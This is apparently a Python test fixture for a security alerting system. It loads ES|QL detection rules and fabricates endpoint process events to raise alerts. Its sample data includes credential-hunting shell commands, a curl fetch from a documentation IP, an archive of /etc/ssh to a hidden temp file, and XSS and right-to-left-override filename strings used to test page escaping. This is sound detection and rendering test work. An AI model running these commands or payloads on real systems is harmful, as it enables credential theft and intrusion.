"""Alerts of pipelines: the shipped rule's story and rules with columns of every kind, from the door to the page."""

import tempfile
from collections.abc import Sequence
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import uuid4

from alerts.evaluation import judge_lookbacks
from alerts.models import Alert
from alerts.settling import settle_due
from rules.loading import Status, load_rules
from soc.web import clock
from tests.alerts.pages.joined import HEAD
from tests.alerts.pages.world import PACK, World

SEED = "31ca3e19-b904-42e2-9e66-0e3d972ed6cd"
ROW, WINDOW, MODEL = (f"a11ce000-0000-4000-8000-00000000001{n}" for n in range(3))
COMMANDS = (
    "whoami",
    "grep -r password /etc",
    "find / -name id_rsa",
    "curl -s http://203.0.113.9/i",
    "env | sort",
    "id",
)
HOSTILE = "<script>alert(1)</script>\u202egnp.exe"
LONG = "x" * 900
RULES = {
    ROW: HEAD.format(
        rule_id=ROW, name="Download by a long command", severity="high", description="A pipeline looks at each event.",
    ) + """type = "esql"
language = "esql"
query = '''
FROM logs-endpoint.events.process-* METADATA _id
| WHERE process.name == "curl" AND process.parent.args IS NOT NULL
| EVAL Esql.length = LENGTH(process.command_line),
    Esql.words = SPLIT(process.command_line, " "),
    Esql.share = ROUND(TO_DOUBLE(Esql.length) / 100, 2),
    Esql.hour = DATE_TRUNC(1 hour, @timestamp),
    Esql.secret = process.parent.command_line RLIKE ".*(token|secret).*",
    Esql.nothing = process.title,
    `Esql.<script>alert(2)</script>` = CONCAT("it's ", user.name),
    `Esql.\u202egnp` = user.email
| WHERE Esql.length >= 30 AND Esql.share > 0.2
| KEEP _id, host.name, user.name, process.command_line, process.args, Esql.*
'''
""",
    WINDOW: HEAD.format(
        rule_id=WINDOW, name="The longest command of a while", severity="low", description="A pipeline sorts a window.",
    ) + """type = "esql"
language = "esql"
query = '''
FROM logs-endpoint.events.process-*
| WHERE process.name == "tar"
| EVAL Esql.length = LENGTH(process.command_line)
| SORT Esql.length DESC
| LIMIT 1
'''
""",
    MODEL: HEAD.format(
        rule_id=MODEL, name="What a model thinks of commands", severity="medium", description="It asks a model.",
    ) + """type = "esql"
language = "esql"
query = '''
FROM logs-endpoint.events.process-*
| STATS Esql.commands = VALUES(process.command_line) BY host.name
| EVAL Esql.prompt = CONCAT("Is this bad? ", MV_CONCAT(Esql.commands, "; "))
| COMPLETION Esql.answer = Esql.prompt WITH { "inference_id": "model" }
| WHERE Esql.answer LIKE "yes*"
'''
""",
}  # fmt: skip


def load(*, own: bool = True) -> None:
    """Load the shipped rule and those above, and switch on what can be."""
    with tempfile.TemporaryDirectory() as folder:
        for rule_id, text in RULES.items() if own else ():
            (Path(folder) / f"{rule_id}.toml").write_text(text)
        paths = [PACK / "linux_python_shell_commands.toml", Path(folder)]
        report = load_rules(paths=paths, source="pack", actor=None, now=clock.now(), enable=True)
    assert not report.count(Status.ERROR), report.errors
    judge_lookbacks(now=clock.now(), worker=uuid4())


def burst(world: World, commands: Sequence[str] = COMMANDS, **fields: Any) -> list[dict[str, Any]]:
    """Shells of one Python process within a minute of the clock, three seconds apart."""
    start = (world.now - timedelta(minutes=3)).replace(second=5)
    told = {"process__parent__entity_id": "python-1", "agent__id": "agent-web-3", **fields}
    return [_shell(start + timedelta(seconds=3 * at), one, told) for at, one in enumerate(commands)]


def _shell(at: datetime, command: str, fields: dict[str, Any]) -> dict[str, Any]:
    return _process(
        at, "sh", f"sh -c {command}", event__action="exec", process__args=["sh", "-c", command],
        process__parent__name="python3.11", process__parent__executable="/usr/bin/python3.11", **fields,
    )  # fmt: skip


def _process(at: datetime, name: str, command: str, **fields: Any) -> dict[str, Any]:
    told: dict[str, Any] = {
        "@timestamp": at.isoformat(timespec="milliseconds"),
        "data_stream": {"type": "logs", "dataset": "endpoint.events.process", "namespace": "default"},
        "event.category": ["process"],
        "event.type": "start",
        "event.id": uuid4().hex,
        "event.dataset": "endpoint.events.process",
        "host.name": "web-3",
        "host.os.type": "linux",
        "user.name": "www-data",
        "process.name": name,
        "process.executable": f"/usr/bin/{name}",
        "process.command_line": command,
    }
    return told | {name.replace("__", "."): value for name, value in fields.items()}


def group(world: World, commands: Sequence[str] = COMMANDS, **fields: Any) -> Alert:
    """The alert of the shipped rule's story."""
    return raised(world, burst(world, commands, **fields), SEED)


def row(world: World, words: int = 14, user: str = HOSTILE) -> Alert:
    """The alert of a long download, whose names and values mean harm."""
    command = " ".join(["curl", "-s", "http://203.0.113.9/i", LONG, *(f"--{number}" for number in range(words))])
    event = _process(
        world.now - timedelta(minutes=2), "curl", command, user__name=user, user__email="\u202e<b>", process__pid=42,
        process__args=command.split(" "), process__parent__args=["bash"], process__parent__command_line="get token",
    )  # fmt: skip
    return raised(world, [event], ROW)


def long_download(world: World, argument: str) -> Alert:
    """The alert of a download whose command line is as long as one likes."""
    event = _process(
        world.now - timedelta(minutes=2), "curl", f"curl -s http://203.0.113.9/i {argument}",
        process__parent__args=["bash"], process__parent__command_line="get token",
    )  # fmt: skip
    return raised(world, [event], ROW)


def window(world: World) -> Alert:
    """The alert of the longest command of several."""
    at = world.now - timedelta(minutes=2)
    commands = ("tar c", "tar czf /tmp/.out /etc/ssh", "tar x")
    return raised(world, [_process(at + timedelta(seconds=n), "tar", one) for n, one in enumerate(commands)], WINDOW)


def raised(world: World, documents: Sequence[dict[str, Any]], rule_id: str) -> Alert:
    """The newest alert of the rule after these events came in and all that waits was settled."""
    world.send(documents)
    later = world.now + timedelta(seconds=10)
    while settle_due(now=later, worker=uuid4()).rules:
        pass
    return Alert.objects.filter(rule_id=rule_id).latest("pk")


def everything(world: World) -> dict[str, Alert]:
    """An alert of each kind that pipelines raise."""
    load()
    return {"group": group(world), "row": row(world), "row of a window": window(world)}
